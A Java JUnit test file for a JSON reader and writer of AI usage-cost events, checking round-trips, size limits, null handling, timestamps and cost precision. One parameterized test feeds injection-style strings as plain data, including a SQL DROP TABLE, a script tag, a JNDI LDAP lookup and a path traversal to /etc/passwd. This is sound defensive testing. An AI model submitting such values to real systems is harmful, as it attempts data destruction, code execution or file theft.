package io.spendstream.contract;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UsageEventJsonTest {
    private static final long SEED = System.nanoTime();

    @Test
    void readsBackEveryEventItWrites() {
        var events = new RandomEvents(new Random(SEED));
        for (int i = 0; i < 5_000; i++) {
            UsageEvent event = events.next();

            assertThat(UsageEventJson.read(UsageEventJson.write(event)))
                    .as("seed %d, event %d", SEED, i)
                    .isEqualTo(event);
        }
    }

    @Test
    void readsBackTheLargestEventThereCanBe() {
        String text = "\u20ac".repeat(Attribution.TEXT_LENGTH_MAX);
        Attribution.Builder attribution = Attribution.builder(text)
                .taskType(text)
                .team(text)
                .agent(text)
                .project(text)
                .user(text)
                .environment(text)
                .parentSessionId(text);
        for (int i = 0; i < Attribution.TAGS_MAX; i++) {
            attribution.tag(text.substring(1) + (char) ('\u4e00' + i), text);
        }
        var usage = UsageCounts.builder();
        UsageClass.all().forEach(usageClass -> usage.set(usageClass, UsageCounts.COUNT_MAX));
        var flags = new TreeSet<String>();
        for (char c = 'a'; flags.size() < UsageFlags.FLAGS_MAX; c++) {
            flags.add("x".repeat(63) + c);
        }
        var largest = new UsageEvent(
                text,
                WireTime.MAX,
                attribution.build(),
                new ModelCall(text, text, text, text, text),
                usage.build(),
                UsageStatus.PROVISIONAL,
                new BigDecimal("999999999.99999999999999999999"),
                UsageCounts.COUNT_MAX,
                text,
                flags);

        byte[] record = UsageEventJson.write(largest);

        assertThat(record).hasSizeLessThanOrEqualTo(UsageEventJson.RECORD_BYTES_MAX);
        assertThat(UsageEventJson.read(record)).isEqualTo(largest);
    }

    @Test
    void readsARecordOfExactlyTheLargestSize() {
        String text = RecordText.minimal().toString();
        String record = text + " ".repeat(UsageEventJson.RECORD_BYTES_MAX - text.length());

        assertThat(read(record).eventId()).isEqualTo("openai:chatcmpl-1");
    }

    @Test
    void takesNullForAbsentInEveryOptionalField() {
        String nulls = RecordText.minimal()
                .with("task_type", "null")
                .with("team", "null")
                .with("agent", "null")
                .with("project", "null")
                .with("user", "null")
                .with("environment", "null")
                .with("parent_session_id", "null")
                .with("tags", "null")
                .with("request_model", "null")
                .with("api", "null")
                .with("service_tier", "null")
                .with("usage", "{\"input\":1234,\"output\":321,\"reasoning\":null}")
                .with("usage_status", "null")
                .with("provider_cost", "null")
                .with("latency_ms", "null")
                .with("status", "null")
                .with("usage_flags", "null")
                .toString();

        assertThat(read(nulls)).isEqualTo(read(RecordText.minimal().toString()));
    }

    @Test
    void keepsFlagsItDoesNotKnowInNameOrderAndOnce() {
        String flagged = RecordText.minimal()
                .with("usage_flags", "[\"total_mismatch\",\"from_the_future\",\"total_mismatch\"]")
                .toString();

        UsageEvent event = read(flagged);

        assertThat(event.usageFlags()).containsExactly("from_the_future", "total_mismatch");
        assertThat(new String(UsageEventJson.write(event), StandardCharsets.UTF_8))
                .endsWith("\"usage_flags\":[\"from_the_future\",\"total_mismatch\"]}");
        assertThat(read(RecordText.minimal().with("usage_flags", "[]").toString())
                        .usageFlags())
                .isEmpty();
    }

    @Test
    void passesOverFieldsItDoesNotKnowWhateverTheyHold() {
        String extended = RecordText.minimal()
                .with("cost_usd", "12.5")
                .with("Model", "\"not the model\"")
                .with("nested", "{\"usage\":{\"input\":9},\"list\":[1,[2,[null]]]}")
                .with("usage_", "{\"input\":-1}")
                .toString();

        assertThat(read(extended)).isEqualTo(read(RecordText.minimal().toString()));
    }

    @Test
    void readsFieldsInAnyOrderWithAnyWhitespace() {
        String reordered = """
                \t{ "usage" : { "output":321 , "input" : 1234 } ,\r
                  "model":"gpt-5-mini", "provider":"openai", "session_id":"session-1",
                  "timestamp":"2026-11-21T20:43:27.512Z", "event_id":"openai:chatcmpl-1", "schema_version":1 }
                """;

        assertThat(read(reordered)).isEqualTo(read(RecordText.minimal().toString()));
    }

    @Test
    void knowsNoUsageOfAMissingEventAndCallsItsCountsAbsentNotZero() {
        UsageEvent event = read(RecordText.minimal()
                .without("usage")
                .with("usage_status", "\"missing\"")
                .toString());

        assertThat(event.usage().isEmpty()).isTrue();
        assertThat(event.usage().has(UsageClass.INPUT)).isFalse();
    }

    @Test
    void keepsAReportedZeroApartFromAnAbsentCount() {
        UsageCounts usage = read(RecordText.minimal()
                        .with("usage", "{\"input\":0,\"output\":-0}")
                        .toString())
                .usage();

        assertThat(usage.has(UsageClass.INPUT)).isTrue();
        assertThat(usage.has(UsageClass.OUTPUT)).isTrue();
        assertThat(usage.has(UsageClass.REASONING)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE token_usage; --",
                "<script>alert(1)</script>",
                "${jndi:ldap://example.com/a}",
                "../../etc/passwd",
                "%s%n%x",
                "{{7*7}}",
                "a\u00a0b\u200bc\ufeff",
                "équipe 支付 😀",
                "=1+1",
                " leading and trailing "
            })
    void keepsTextThatLooksLikeCodeAsItIs(String text) {
        String quoted = "\"" + text + "\"";
        UsageEvent event = read(RecordText.minimal()
                .with("team", quoted)
                .with("tags", "{%s:%s}".formatted(quoted, quoted))
                .toString());

        assertThat(event.attribution().team()).isEqualTo(text);
        assertThat(event.attribution().tags()).containsEntry(text, text).hasSize(1);
        assertThat(UsageEventJson.read(UsageEventJson.write(event))).isEqualTo(event);
    }

    @Test
    void readsTimesOfAnyOffsetAndKeepsMicroseconds() {
        assertThat(timestamp("2026-11-21T21:43:27.512345999+01:00")).isEqualTo("2026-11-21T20:43:27.512345Z");
        assertThat(timestamp("2026-11-21t20:43:27z")).isEqualTo("2026-11-21T20:43:27Z");
        assertThat(timestamp("2024-02-29T00:00:00-05:30")).isEqualTo("2024-02-29T05:30:00Z");
    }

    @Test
    void readsAProviderCostWrittenAsTextOrNumberExactly() {
        assertThat(providerCost("\"0.10000000000000000001\"")).isEqualTo("0.10000000000000000001");
        assertThat(providerCost("0.1")).isEqualTo("0.1");
        assertThat(providerCost("1e-7")).isEqualTo("0.0000001");
        assertThat(providerCost("\"1E+3\"")).isEqualTo("1000");
        assertThat(providerCost("1000000000")).isEqualTo("1000000000");
        assertThat(providerCost("\"0\"")).isEqualTo("0");
    }

    @Test
    void readsCountsUpToTheLimit() {
        UsageEvent event = read(RecordText.minimal()
                .with("usage", "{\"input\":1000000000000}")
                .with("latency_ms", "1000000000000")
                .toString());

        assertThat(event.usage().get(UsageClass.INPUT)).isEqualTo(1_000_000_000_000L);
        assertThat(event.latencyMillis()).isEqualTo(1_000_000_000_000L);
    }

    @Test
    void anEventThatCouldNotBeReadBackCannotBeMade() {
        UsageEvent event = Examples.fullEvent();

        assertThatThrownBy(() -> with(event, event.timestamp(), new BigDecimal("-0.01"), 1L))
                .isInstanceOf(RejectedException.class)
                .hasMessageContaining("provider_cost must be");
        assertThatThrownBy(() -> with(event, event.timestamp(), new BigDecimal("1e999999999"), 1L))
                .isInstanceOf(RejectedException.class)
                .hasMessageContaining("provider_cost must be");
        assertThatThrownBy(() -> with(event, event.timestamp(), BigDecimal.ONE, -1L))
                .isInstanceOf(RejectedException.class)
                .hasMessageContaining("latency_ms must be in 0..1000000000000: -1");
        assertThatThrownBy(() -> with(event, event.timestamp(), BigDecimal.ONE, 1_000_000_000_001L))
                .isInstanceOf(RejectedException.class)
                .hasMessageContaining("latency_ms must be in 0..1000000000000");
        assertThatThrownBy(() -> with(event, Instant.MAX, BigDecimal.ONE, 1L))
                .isInstanceOf(RejectedException.class)
                .hasMessageContaining("timestamp must be in the years 0000 to 9999");
    }

    private static UsageEvent with(UsageEvent event, Instant timestamp, BigDecimal providerCost, long latencyMillis) {
        return new UsageEvent(
                event.eventId(),
                timestamp,
                event.attribution(),
                event.call(),
                event.usage(),
                event.usageStatus(),
                providerCost,
                latencyMillis,
                event.status(),
                Set.of());
    }

    private static String timestamp(String text) {
        return read(RecordText.minimal().with("timestamp", "\"" + text + "\"").toString())
                .timestamp()
                .toString();
    }

    private static String providerCost(String json) {
        UsageEvent event = read(RecordText.minimal().with("provider_cost", json).toString());
        assertThat(UsageEventJson.read(UsageEventJson.write(event))).isEqualTo(event);
        return requireNonNull(event.providerCost()).toPlainString();
    }

    private static UsageEvent read(String record) {
        return UsageEventJson.read(record.getBytes(StandardCharsets.UTF_8));
    }
}
